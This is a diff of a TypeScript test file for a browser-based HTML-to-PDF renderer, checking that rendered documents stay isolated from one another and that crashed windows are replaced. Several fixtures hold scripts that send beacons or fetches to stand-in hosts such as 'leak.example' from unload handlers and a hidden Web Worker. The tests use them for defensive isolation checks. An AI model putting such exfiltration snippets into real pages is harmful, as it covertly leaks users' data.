@@ -33,9 +33,27 @@ test('a document finds nothing that another one has left in its window', async (
   expect(await set('after', WHAT_IS_LEFT)).toBe(fresh)
 })
 
-test('what a document does when it is taken away is not done, nor held against the next', async () => {
-  await set('parting', `<p>first</p><script>onpagehide = () => navigator.sendBeacon('http://leak.example/')</script>`)
-  await expect(set('after', '<p>second</p>')).resolves.toContain('second')
+test('what a document would do when it is taken away is not done, nor held against the next', async () => {
+  await writeFile(join(place.dir, 'seen.txt'), 'seen')
+  place.server.forget()
+  const parting = `fetch('seen.txt', { keepalive: true }); for (let n = 0; n < 100; n++) navigator.sendBeacon('http://leak' + n + '.example/')`
+  const events = ['onpagehide', 'onunload', 'onbeforeunload', 'document.onvisibilitychange']
+  await set(
+    'parting',
+    `<p>first</p><script>${events.map((name) => `${name} = () => { ${parting} }`).join('\n')}</script>`,
+  )
+  expect(await set('after', '<p>second</p>')).toContain('second')
+  expect([...place.server.loaded()]).toEqual(['parting.html', 'after.html'])
+})
+
+test('what goes on beside a document is held against it, or nobody', async () => {
+  const code = `onmessage = () => setInterval(() => fetch('http://leak.example/').catch(() => 0), 1)`
+  const late = `<p>first</p><script>
+    const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))
+    onafterprint = () => worker.postMessage(0)
+  </script>`
+  await set('late', late).catch((error: Error) => expect(error.message).toMatch(/^late\.html: asks for http:/))
+  expect(await set('after', '<p>second</p>')).toContain('second')
 })
 
 test('a document that cannot be printed leaves a good window to the next', async () => {
@@ -43,10 +61,26 @@ test('a document that cannot be printed leaves a good window to the next', async
   expect(await set('after', '<p>second</p>')).toContain('second')
 })
 
-test('the first document has the fonts of the second, and as many', async () => {
-  const size = async (name: string) => {
-    await writeFile(join(place.dir, `${name}.html`), '<!doctype html><html lang="zh"><title>t</title><p>文字 text')
-    return (await render({ ...place, source: `${name}.html`, paper: 'a4', timeout: 20_000 })).pdf.length
-  }
-  expect(await size('one')).toBe(await size('two'))
+test('documents one after another need one window, and a new one where it broke down', async () => {
+  await set('one', '<p>first</p>')
+  const [context] = place.browser.contexts()
+  await set('two', '<p>second</p>')
+  expect(place.browser.contexts()).toEqual([context])
+  const [page] = context?.pages() ?? []
+  if (!context || !page) throw new Error('there is no window')
+  await page.waitForURL('about:blank')
+  const gone = Promise.race([page.waitForEvent('crash'), page.waitForEvent('close')])
+  // It is never answered.
+  void (await context.newCDPSession(page)).send('Page.crash').catch(() => undefined)
+  await gone
+  expect(await set('three', '<p>third</p>')).toContain('third')
+})
+
+test('what a document loads is known, even if one before it has loaded that too', async () => {
+  await writeFile(join(place.dir, 'data.json'), '{}')
+  const loads = `<p>text</p><script>fetch('data.json', { cache: 'force-cache' })</script>`
+  await set('first', loads)
+  place.server.forget()
+  await set('second', loads)
+  expect(place.server.loaded()).toContain('data.json')
 })
